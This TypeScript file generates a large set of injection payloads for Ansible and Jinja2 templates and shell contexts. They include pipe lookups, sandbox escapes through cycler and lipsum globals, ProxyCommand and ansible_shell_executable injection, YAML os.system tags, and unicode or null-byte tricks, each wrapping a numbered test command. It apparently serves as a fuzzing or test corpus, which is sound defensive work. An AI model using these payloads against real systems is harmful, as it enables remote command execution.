/** Texts that run a command if they are interpreted. `fire` returns a shell command for a number. */
export function payloads(fire: (number: number) => string): string[] {
  const all: string[] = []
  const add = (make: (command: string) => string) => {
    all.push(make(fire(all.length)))
  }
  const expressions: ((command: string) => string)[] = [
    (command) => `lookup('pipe', '${command}')`,
    (command) => `lookup('ansible.builtin.pipe', '${command}')`,
    (command) => `query('pipe', '${command}')`,
    (command) => `q('pipe', '${command}')`,
    (command) => `lookup('lines', '${command}')`,
    (command) => `lookup("pipe", "${command}") | string`,
    (command) => `(lookup('pipe', '${command}'))`,
    (command) => `'a' ~ lookup('pipe', '${command}')`,
    (command) => `[lookup('pipe', '${command}')] | first`,
    (command) => `{'a': lookup('pipe', '${command}')}`,
    (command) => `lookup('pipe', ['${command}'] | first)`,
    (command) => `cycler.__init__.__globals__.os.system('${command}')`,
    (command) => `lipsum.__globals__['os'].popen('${command}').read()`,
    (command) => `lookup('template', '/dev/null') ~ lookup('pipe', '${command}')`,
  ]
  const surroundings: ((expression: string) => string)[] = [
    (one) => `{{ ${one} }}`,
    (one) => `{{${one}}}`,
    (one) => `{{- ${one} -}}`,
    (one) => `before {{ ${one} }} after`,
    (one) => `{% set x = ${one} %}{{ x }}`,
    (one) => `{% if ${one} %}a{% endif %}`,
    (one) => `{%- for x in [${one}] -%}{{ x }}{%- endfor -%}`,
    (one) => `line\n{{ ${one} }}\nline`,
    (one) => `{{ '{{' }} {{ ${one} }}`,
    (one) => `"{{ ${one} }}"`,
    (one) => `'{{ ${one} }}'`,
    (one) => `fra-1 ansible_ssh_common_args="{{ ${one} }}"`,
  ]
  for (const expression of expressions)
    for (const around of surroundings) add((command) => around(expression(command)))
  const shells: ((command: string) => string)[] = [
    (command) => `$(${command})`,
    (command) => `\`${command}\``,
    (command) => `; ${command}`,
    (command) => `| ${command}`,
    (command) => `&& ${command}`,
    (command) => `\n${command}\n`,
    (command) => `' ; ${command} ; '`,
    (command) => `" ; ${command} ; "`,
    (command) => `-oProxyCommand=${command}`,
    (command) => `a -o ProxyCommand="${command}"`,
    (command) => `192.0.2.1 ansible_connection=local ansible_shell_executable="${command}"`,
    (command) => `192.0.2.1\n[all:vars]\nansible_ssh_executable=${command}`,
    (command) => `!!python/object/apply:os.system ["${command}"]`,
    (command) => `!unsafe "{{ lookup('pipe', '${command}') }}"`,
    (command) => `"}}, "other": "{{ lookup('pipe', '${command}') }}"`,
    (command) => `{"__ansible_unsafe": "{{ lookup('pipe', '${command}') }}"}`,
    (command) => `{"__ansible_vault": "{{ lookup('pipe', '${command}') }}"}`,
    (command) => `#jinja2: variable_start_string: '[%'\n[% lookup('pipe', '${command}') %]`,
    (command) => `AnsibleUnsafe {{ lookup('pipe', '${command}') }}`,
    (command) => `\u202e{{ lookup('pipe', '${command}') }}`,
    (command) => `{{ lookup('pipe', '${command}') }}\u0000`,
    (command) => `%{${command}}`,
    (command) => `\${${command}}`,
    (command) => `- name: x\n  shell: ${command}`,
  ]
  for (const shell of shells) for (const tail of ['', ' ']) add((command) => shell(command) + tail)
  return all
}
